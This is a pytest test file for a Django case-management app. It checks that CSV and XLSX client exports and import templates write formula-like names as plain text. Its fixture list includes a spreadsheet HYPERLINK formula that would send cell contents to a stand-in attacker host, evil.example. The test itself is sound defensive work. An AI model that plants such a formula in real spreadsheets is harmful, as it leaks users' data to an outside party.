"""The coordinator's client export and the import templates write every text through
accounts.exports: a name that a spreadsheet would run as a formula comes out as text."""

import pytest
from django.urls import reverse

from accounts.models import AccessAction, AccessLogEntry
from tests.casemanagement.factories import ClientFactory
from tests.netwerk.factories import GemeenteFactory, WerkgebiedFactory, coordinator_of
from tests.spreadsheets import (
    HOSTILE,
    assert_csv_neutralised,
    assert_xlsx_neutralised,
    csv_rows,
    xlsx_workbook,
)

pytestmark = pytest.mark.django_db

NAMEN = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+1", "@SUM(A1:A9)"]


@pytest.fixture
def hostile_clients(netwerk):
    return [ClientFactory(netwerk=netwerk, voornaam=naam, achternaam="") for naam in NAMEN]


def test_client_export_csv_writes_formula_like_names_as_text(client, netwerk, hostile_clients):
    client.force_login(coordinator_of(netwerk))
    response = client.get(reverse("casemanagement:client_export"))

    assert_csv_neutralised(response, NAMEN)
    header, *rows = csv_rows(response)
    assert header[:2] == ["Naam", "Geboortedatum"]
    assert sorted(row[0] for row in rows) == sorted("'" + naam for naam in NAMEN)
    assert {row[1] for row in rows} == {"17-05-1940"}


def test_client_export_xlsx_writes_formula_like_names_as_text_and_dates_as_dates(
    client, netwerk, hostile_clients
):
    client.force_login(coordinator_of(netwerk))
    response = client.get(reverse("casemanagement:client_export_xlsx"))

    assert response["Content-Disposition"] == 'attachment; filename="clienten.xlsx"'
    assert_xlsx_neutralised(response, NAMEN)
    sheet = xlsx_workbook(response).active
    assert sorted(row[0].value for row in sheet.iter_rows(min_row=2)) == sorted(NAMEN)
    assert all(row[1].is_date for row in sheet.iter_rows(min_row=2))
    exported = AccessLogEntry.objects.filter(action=AccessAction.EXPORTEREN)
    assert set(exported.values_list("client_id", flat=True)) == {c.pk for c in hostile_clients}


def test_client_export_xlsx_is_only_for_the_coordinator(client, casemanager):
    client.force_login(casemanager)
    assert client.get(reverse("casemanagement:client_export_xlsx")).status_code == 403


@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_import_templates_write_a_formula_like_gemeente_as_text(client, netwerk, ext):
    """The example row names the network's first gemeente (by name): a hostile one sorts
    first."""
    WerkgebiedFactory(netwerk=netwerk, gemeente=GemeenteFactory(naam=HOSTILE[0]))
    client.force_login(coordinator_of(netwerk))
    response = client.get(reverse(f"casemanagement:import_template_{ext}"))

    if ext == "csv":
        assert_csv_neutralised(response, [HOSTILE[0]])
    else:
        assert_xlsx_neutralised(response, [HOSTILE[0]])
